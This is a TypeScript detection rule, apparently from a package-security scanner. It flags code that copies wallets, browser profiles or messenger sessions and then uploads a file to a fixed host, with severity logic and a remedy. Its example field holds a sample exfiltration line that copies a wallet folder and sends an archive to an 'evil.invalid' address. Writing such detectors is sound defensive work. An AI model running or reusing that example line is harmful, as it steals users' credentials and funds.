import { isCollecting } from '../facts/collecting-places.js';
import { isUnasked } from '../values/reach.js';
import { WHEN } from './combination.js';
import type { PairCombination } from './pair-combination.js';

export const secretsGatheredAndSent: PairCombination = {
  doc: {
    id: 'secrets-gathered-and-sent',
    title: 'Copies files in which programs keep secrets, and sends a file to a fixed address',
    why: 'Wallets, profiles of browsers and sessions of messengers are copied together to be packed and taken away in one go.',
    remedy: 'Do not install the package. If it ran somewhere, change the secrets that machine could see.',
    example:
      'shutil.copytree(wallet, folder); requests.put("https://evil.invalid/a.zip", data=open(packed, "rb"))',
    technique: 'T1560',
  },
  within: 'file',
  first: ({ behaviour }) => behaviour === 'copies-secret',
  second: ({ behaviour, labels, host }) =>
    behaviour === 'contacts' && host !== undefined && (labels.has('file') || labels.has('user-file')),
  severity: ({ reach, text, isDropped }) =>
    isUnasked(reach) || isDropped === true || isCollecting(text ?? '') ? 'CRITICAL' : 'HIGH',
  message: (first, { name, reach }) =>
    `${first.name} copies ${first.text ?? 'secrets'} and ${name} sends a file ${WHEN[reach]}`,
};
